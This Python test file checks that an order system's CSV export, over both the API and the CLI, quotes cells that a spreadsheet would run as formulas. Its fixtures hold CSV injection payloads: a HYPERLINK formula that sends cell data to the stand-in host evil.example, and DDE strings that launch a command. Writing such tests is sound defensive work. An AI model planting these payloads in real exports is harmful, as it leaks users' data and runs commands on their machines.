"""CSV export of orders: printer- and registry-supplied strings that a spreadsheet would run
as formulas (= + - @, tab, CR at the start) come out inert, over the API and the CLI."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from support_central import CentralServer, central  # noqa: F401  (fixture)
from test_central_api import Agent, get, import_yaml, supply, wait_for

from asr_central.cli import main as central_cli
from asr_central.storage.orders import inert_cell

pytestmark = pytest.mark.trust  # issue 14's attacks: `scripts/test -m trust` runs them all

SERIAL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PART = "@SUM(1+1)*cmd|' /C calc'!A0"
NAME = "-2+3+cmd|' /C calc'!A0"
ADDRESS = "+33 4 12 34 56 78, 12 rue Garibaldi"

REGISTRY = f"""\
contacts:
  - id: facilities
    name: "{NAME}"
    email: facilities@lyon.example
    shipping_address: "{ADDRESS}"
sites:
  - {{id: lyon, name: Lyon HQ, contact: facilities}}
devices:
  - serial: '{SERIAL}'
    site: lyon
catalog:
  - {{part_number: "{PART}", description: Black toner, kind: consumable, color: black,
     capacity_g: 250}}
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _assert_inert(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
    return rows


def test_hostile_serial_part_number_and_contact_are_exported_inert(
        central: CentralServer, tmp_path: Path) -> None:  # noqa: F811
    assert import_yaml(central, REGISTRY).status_code == 200
    agent = Agent(central)
    black = dataclasses.replace(supply(1, dte=12, low=10, daily_percent=2), part_number=PART)
    agent.send(SERIAL, [black], end=datetime.now(UTC).replace(microsecond=0)
               - timedelta(minutes=5))
    wait_for(lambda: get(central, "/v1/orders"))
    r = central.admin("GET", "/v1/orders.csv")
    assert r.status_code == 200
    [row] = _assert_inert(r.text)
    assert row["device_serial"] == "'" + SERIAL
    assert row["part_number"] == "'" + PART
    assert row["contact_name"] == "'" + NAME
    assert row["shipping_address"] == "'" + ADDRESS

    out = tmp_path / "orders.csv"
    assert central_cli(["orders", "--db", central.db_url, "export", "--format", "csv",
                        "-o", str(out)]) == 0
    [cli_row] = _assert_inert(out.read_text(encoding="utf-8"))
    assert cli_row == row


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_cell_that_could_start_a_formula_gets_a_quote(value: str) -> None:
    assert inert_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-5, 2.5, "106R03528", "", "a=b"])
def test_numbers_and_plain_text_are_left_as_they_are(value: object) -> None:
    assert inert_cell(value) == value
